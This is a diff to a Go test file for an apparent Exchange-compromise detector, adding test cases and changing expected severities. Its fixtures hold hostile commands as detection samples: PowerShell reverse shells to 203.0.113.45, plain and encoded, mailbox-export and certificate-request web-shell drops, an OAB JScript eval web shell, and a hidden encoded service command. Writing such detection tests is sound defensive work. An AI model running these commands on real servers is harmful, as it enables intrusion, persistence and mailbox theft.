@@ -180,9 +180,9 @@ func TestCmdlets(t *testing.T) {
 	expect(t, "oab script", run(t, Cmdlets{}, cmdlet(1, "Set-OabVirtualDirectory", script, "1234 w3wp#MSExchangeECPAppPool")), RuleCmdletVDirScript.ID, finding.Critical)
 	expect(t, "oab script failed", run(t, Cmdlets{}, cmdlet(6, "Set-OabVirtualDirectory", script, "1234 w3wp#MSExchangeECPAppPool")), RuleCmdletVDirScript.ID, finding.High)
 	expect(t, "export aspx", run(t, Cmdlets{}, cmdlet(1, "New-MailboxExportRequest", `-Mailbox 'administrator@contoso.local' -FilePath '\\127.0.0.1\c$\inetpub\wwwroot\aspnet_client\shell.aspx'`, "4321 w3wp#MSExchangePowerShellAppPool")), RuleCmdletMailboxExport.ID, finding.Critical)
-	expect(t, "export share", run(t, Cmdlets{}, cmdlet(1, "New-MailboxExportRequest", `-Mailbox 'ceo' -FilePath '\\fs01\pst$\ceo.pst'`, "4321 w3wp#MSExchangePowerShellAppPool")), RuleCmdletMailboxExport.ID, finding.High)
-	expect(t, "remove export", run(t, Cmdlets{}, cmdlet(1, "Remove-MailboxExportRequest", `-Identity 'ceo\MailboxExport' -Confirm:$false`, "p")), RuleCmdletRemoveExport.ID, finding.High)
-	expect(t, "role", run(t, Cmdlets{}, cmdlet(1, "New-ManagementRoleAssignment", `-Role "Mailbox Import Export" -User "attacker"`, "p")), RuleCmdletImportExportRole.ID, finding.High)
+	expect(t, "export share", run(t, Cmdlets{}, cmdlet(1, "New-MailboxExportRequest", `-Mailbox 'ceo' -FilePath '\\fs01\pst$\ceo.pst'`, "4321 w3wp#MSExchangePowerShellAppPool")), RuleCmdletMailboxExport.ID, finding.Medium)
+	expect(t, "remove export", run(t, Cmdlets{}, cmdlet(1, "Remove-MailboxExportRequest", `-Identity 'ceo\MailboxExport' -Confirm:$false`, "p")), RuleCmdletRemoveExport.ID, finding.Low)
+	expect(t, "role", run(t, Cmdlets{}, cmdlet(1, "New-ManagementRoleAssignment", `-Role "Mailbox Import Export" -User "attacker"`, "p")), RuleCmdletImportExportRole.ID, finding.Medium)
 	expect(t, "agent temp", run(t, Cmdlets{}, cmdlet(1, "Install-TransportAgent", `-Name "x" -AssemblyPath "C:\Windows\Temp\agent.dll" -TransportAgentFactory "y"`, "p")), RuleCmdletTransportAgent.ID, finding.High)
 	expect(t, "certificate", run(t, Cmdlets{}, cmdlet(1, "New-ExchangeCertificate", `-GenerateRequest -BinaryEncoded -RequestFile '\\localhost\C$\inetpub\wwwroot\aspnet_client\x.aspx' -SubjectName 'c=us'`, "p")), RuleCmdletCertificateDrop.ID, finding.Critical)
 
@@ -220,6 +220,12 @@ func TestProcessCreation(t *testing.T) {
 	expect(t, "nishang", run(t, ProcessCreation{}, sysmon1(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell -nop -c "$client = New-Object System.Net.Sockets.TCPClient('203.0.113.45',443);$stream = $client.GetStream()"`, w3wp)), RuleReverseShell.ID, finding.Critical)
 	payload := utf16le(`$c=New-Object Net.Sockets.TCPClient('203.0.113.45',4444);$s=$c.GetStream();iex ([Text.Encoding]::ASCII.GetString($b))`)
 	expect(t, "encoded", run(t, ProcessCreation{}, sysmon1(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "powershell.exe -nop -w hidden -e "+payload, `C:\Windows\System32\cmd.exe`)), RuleReverseShell.ID, finding.Critical)
+	// Cmdlets run from a command line, and a tab before -enc: the
+	// literals select them too (run checks it).
+	expect(t, "certificate cmd", run(t, ProcessCreation{}, sysmon1(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell New-ExchangeCertificate -GenerateRequest -RequestFile '\\localhost\c$\inetpub\wwwroot\aspnet_client\shell.aspx'`, `C:\Windows\explorer.exe`)), RuleCmdletCertificateDrop.ID, finding.Critical)
+	expect(t, "agent cmd", run(t, ProcessCreation{}, sysmon1(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell Install-TransportAgent -Name x -AssemblyPath C:\Users\Public\agent.dll -TransportAgentFactory y`, `C:\Windows\explorer.exe`)), RuleCmdletTransportAgent.ID, finding.High)
+	expect(t, "vdir cmd", run(t, ProcessCreation{}, sysmon1(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell Set-OabVirtualDirectory -ExternalUrl 'http://f/<script language="JScript" runat="server">function Page_Load(){}</script>'`, `C:\Windows\explorer.exe`)), RuleCmdletVDirScript.ID, finding.Critical)
+	expect(t, "tab enc", run(t, ProcessCreation{}, sysmon1(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "powershell.exe\t-enc "+payload, `C:\Windows\explorer.exe`)), RuleReverseShell.ID, finding.Critical)
 	expect(t, "export cmd", run(t, ProcessCreation{}, sysmon1(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell New-MailboxExportRequest -Mailbox ceo -FilePath \\localhost\c$\inetpub\wwwroot\aspnet_client\a.aspx`, `C:\Windows\System32\cmd.exe`)), RuleCmdletMailboxExport.ID, finding.Critical)
 
 	// Look-alikes: ASP.NET compiling a page, a crashing UM worker's
@@ -287,9 +293,17 @@ func TestSystemEvents(t *testing.T) {
 		return ev("Service Control Manager", "System", 7045, 4, "ServiceName", "x", "ImagePath", image, "StartType", "demand start", "AccountName", "LocalSystem")
 	}
 	expect(t, "comspec", run(t, NewServices{}, svc(`%COMSPEC% /b /c start /b /min powershell -nop -w hidden -enc SQBFAFgA`)), RuleNewService.ID, finding.High)
-	expect(t, "ordinary", run(t, NewServices{}, svc(`"C:\Program Files\Veeam\Agent\VeeamAgent.exe"`)), RuleNewService.ID, finding.Low)
+	ordinary := run(t, NewServices{}, svc(`"C:\Program Files\Veeam\Agent\VeeamAgent.exe"`))
+	expect(t, "ordinary", ordinary, RuleNewService.ID, finding.Low)
+	if !ordinary[0].Context {
+		t.Error("an ordinary service install must be context, not an alarm")
+	}
 
-	expect(t, "2303", run(t, IISEvents{}, unnamed("Microsoft-Windows-IIS-W3SVC-WP", "System", 2303, 2, "MSExchangeOWAAppPool", "x")), RuleIISWorkerEvent.ID, finding.Low)
+	iis := run(t, IISEvents{}, unnamed("Microsoft-Windows-IIS-W3SVC-WP", "System", 2303, 2, "MSExchangeOWAAppPool", "x"))
+	expect(t, "2303", iis, RuleIISWorkerEvent.ID, finding.Low)
+	if !iis[0].Context {
+		t.Error("IIS errors are context")
+	}
 
 	oab := ev("Microsoft-Windows-Security-Auditing", "Security", 5136, 0, "ObjectClass", "msExchOABVirtualDirectory", "AttributeLDAPDisplayName", "msExchExternalHostName",
 		"AttributeValue", `http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["x"],"unsafe");}</script>`, "SubjectUserName", "EX01$")
